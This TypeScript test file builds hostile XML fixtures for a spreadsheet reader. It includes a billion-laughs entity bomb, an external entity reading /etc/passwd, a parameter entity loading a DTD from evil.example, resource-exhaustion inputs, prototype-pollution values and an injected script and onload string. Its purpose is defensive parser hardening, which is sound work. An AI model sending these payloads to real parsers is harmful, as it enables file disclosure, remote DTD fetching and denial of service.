import { FOREIGN } from "../files";
import { hostile, rows, SHEET, sheetXml, text, type HostileFile } from "./hostile-file";

const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${"bcdefghij"
  .split("")
  .map((name, i) => `<!ENTITY ${name} "${`&${"abcdefghi"[i] ?? "a"};`.repeat(10)}">`)
  .join("")}]>`;
const OUTSIDE = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`;
const PARAMETER = `<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;]>`;

const PARTS = [
  SHEET,
  "xl/workbook.xml",
  "xl/styles.xml",
  "xl/_rels/workbook.xml.rels",
  "[Content_Types].xml",
  "_rels/.rels",
];

/** Document types in every part that is read. */
const declared: readonly HostileFile[] = [
  ...PARTS.map((part) =>
    hostile(`a billion laughs in ${part}`, "suspicious", () => ({
      [part]: LAUGHS + (FOREIGN[part] ?? ""),
    })),
  ),
  hostile("an entity from the disk", "suspicious", () => ({
    [SHEET]: OUTSIDE + sheetXml(`<row r="1">${text("A1", "&e;")}</row>`),
  })),
  hostile("declarations from the web", "suspicious", () => ({
    [SHEET]: PARAMETER + (FOREIGN[SHEET] ?? ""),
  })),
  hostile("a document type within the sheet", "suspicious", () => ({
    [SHEET]: sheetXml(`<row r="1">${OUTSIDE}</row>`),
  })),
];

const N = 100_000;
const sheet = (name: string, expected: HostileFile["expected"], xml: () => string): HostileFile =>
  hostile(name, expected, () => ({ [SHEET]: xml() }));
const styles = (name: string, expected: HostileFile["expected"], xml: () => string): HostileFile =>
  hostile(name, expected, () => ({ "xl/styles.xml": xml() }));

/** Not well-formed, or well-formed and meant to be slow. */
const shaped: readonly HostileFile[] = [
  sheet("no content", "unreadable", () => ""),
  sheet("only blanks", "unreadable", () => " \n\t ".repeat(1000)),
  sheet("no XML", "unreadable", () => "乡镇，总分"),
  sheet("cut off", "unreadable", () => "<worksheet><sheetData><row"),
  sheet("elements that cross", "unreadable", () => sheetXml("<row><c></row></c>")),
  sheet("elements closed twice", "unreadable", () => sheetXml("</row>")),
  sheet("100,000 elements nested", "unreadable", () =>
    sheetXml("<row>".repeat(N) + "</row>".repeat(N)),
  ),
  sheet("300,000 cells that are never closed", "unreadable", () => sheetXml("<c>".repeat(3 * N))),
  sheet("300,000 tags that never end", "unreadable", () => sheetXml("<c ".repeat(3 * N))),
  sheet("300,000 quotes that never end", "unreadable", () => sheetXml(`<c r="`.repeat(3 * N))),
  sheet("300,000 comments that never end", "unreadable", () => sheetXml("<!--".repeat(3 * N))),
  sheet("300,000 sections that never end", "unreadable", () => sheetXml("<![CDATA[".repeat(3 * N))),
  sheet("300,000 instructions that never end", "unreadable", () => sheetXml("<?a".repeat(3 * N))),
  sheet("100,000 instructions", "opened", () => "<?a?>".repeat(N) + (FOREIGN[SHEET] ?? "")),
  sheet("100,000 instructions before a text", "unreadable", () => "<?a?>".repeat(N) + "x"),
  sheet("100,000 byte order marks before a text", "unreadable", () => "\ufeff".repeat(N) + "x"),
  sheet("100,000 comments", "opened", () => "<!-- <c> -->".repeat(N) + (FOREIGN[SHEET] ?? "")),
  sheet("comments with cells in them", "opened", () =>
    sheetXml(`<row r="1"><!--<c r="A1"><v>1</v>--><c r="A1"><v>2</v></c></row>`),
  ),
  sheet("a section with a tag in it", "opened", () =>
    sheetXml(`<row r="1">${text("A1", "<![CDATA[<script>alert(1)</script>]]>")}</row>`),
  ),
  sheet("a million blanks in a tag", "opened", () =>
    sheetXml(`<row r="1"${" ".repeat(10 * N)}></row>`),
  ),
  sheet("100,000 attributes of a tag", "opened", () =>
    sheetXml(`<row r="1" ${Array.from({ length: N }, (_, i) => `a${i}="1"`).join(" ")}></row>`),
  ),
  sheet("an attribute twice", "unreadable", () => sheetXml(`<row r="1" ht="9" r="1"></row>`)),
  sheet("an attribute twice under two prefixes", "unreadable", () =>
    sheetXml(`<row r="1" xmlns:a="urn:x" xmlns:b="urn:x" a:x="1" b:x="1"></row>`),
  ),
  sheet("two attributes without a blank between", "unreadable", () =>
    sheetXml(`<row r="1"ht="9"></row>`),
  ),
  sheet("a prefix that nobody declares", "unreadable", () => sheetXml(`<row r="1" z:x="1"></row>`)),
  sheet("a prefix that a neighbour declares", "unreadable", () =>
    sheetXml(`<row r="1" xmlns:z="urn:z"/><row r="2" z:x="1"/>`),
  ),
  sheet("an attribute without quotes", "unreadable", () => sheetXml(`<row r=1></row>`)),
  sheet("an attribute without a value", "unreadable", () => sheetXml(`<row r="1" hidden></row>`)),
  sheet("two roots", "unreadable", () => sheetXml("") + sheetXml("")),
  sheet("words behind the root", "unreadable", () => `${sheetXml("")} words`),
  sheet("the end of a section in a text", "unreadable", () =>
    sheetXml(`<row r="1">${text("A1", "]]>")}</row>`),
  ),
  sheet("the end of a section in an attribute", "opened", () =>
    sheetXml(`<row r="1" x="]]>">${text("A1", "x")}</row>`),
  ),
  sheet("a remark with two dashes", "unreadable", () => sheetXml("<!-- a -- b -->")),
  sheet("a declaration in the middle", "unreadable", () => sheetXml(`<?xml version="1.0"?>`)),
  sheet("a name that is none", "unreadable", () => sheetXml("<1row/>")),
  hostile("bytes that are no UTF-8", "unreadable", () => ({
    [SHEET]: Uint8Array.from([...Buffer.from(sheetXml("")), 0x20, 0xff, 0xfe]),
  })),
  sheet("an attribute of a million letters", "opened", () =>
    sheetXml(`<row r="1" x="${"x".repeat(10 * N)}"></row>`),
  ),
  sheet("a name of a million letters", "unreadable", () => sheetXml(`<${"r".repeat(10 * N)}>`)),
  sheet("a prefix before every name", "opened", () =>
    sheetXml(`<row r="1"><c r="A1"><v>1</v></c></row>`)
      .replaceAll(/<(\/?)(\w)/g, "<$1evil:$2")
      .replace("xmlns=", "xmlns:evil="),
  ),
  sheet("in UTF-16", "unreadable", () =>
    Buffer.from(FOREIGN[SHEET] ?? "", "utf16le").toString("latin1"),
  ),
  rows(
    "entities that nobody knows",
    "unreadable",
    () => `<row r="1">${text("A1", "&x;&y;")}</row>`,
  ),
  rows(
    "characters that do not exist",
    "unreadable",
    () => `<row r="1">${text("A1", "&#x110000;&#0;&#99999999999;&#xD800;_xD800__xFFFF_")}</row>`,
  ),
  rows("100,000 ampersands", "unreadable", () => `<row r="1">${text("A1", "&".repeat(N))}</row>`),
  rows(
    "control characters",
    "unreadable",
    () => `<row r="1">${text("A1", "_x0000__x0007_\u0001\u001b[31m")}</row>`,
  ),
  styles("styles nested 100,000 deep", "unreadable", () => "<a>".repeat(N) + "</a>".repeat(N)),
  styles("styles cut off", "unreadable", () => "<styleSheet><cellXfs><xf"),
  styles("no styles", "opened", () => "<styleSheet/>"),
  styles(
    "100,000 styles",
    "opened",
    () => `<styleSheet><cellXfs>${'<xf numFmtId="9"/>'.repeat(N)}</cellXfs></styleSheet>`,
  ),
  styles(
    "styles that point nowhere",
    "opened",
    () =>
      `<styleSheet><cellXfs><xf numFmtId="-1" fontId="999" fillId="1e9" borderId="__proto__"/><xf fontId="NaN"/></cellXfs></styleSheet>`,
  ),
  styles(
    "colours and sizes that are none",
    "opened",
    () =>
      `<styleSheet><fonts><font><sz val="1e99"/><color rgb="&quot;onload=" tint="9e9"/><name val="__proto__"/></font></fonts><fills><fill><patternFill patternType="solid"><fgColor theme="-5" tint="-1e9"/></patternFill></fill></fills><cellXfs><xf fontId="0" fillId="0"/><xf fontId="0" fillId="0"/></cellXfs></styleSheet>`,
  ),
];

export const XML_FILES: readonly HostileFile[] = [...declared, ...shaped];
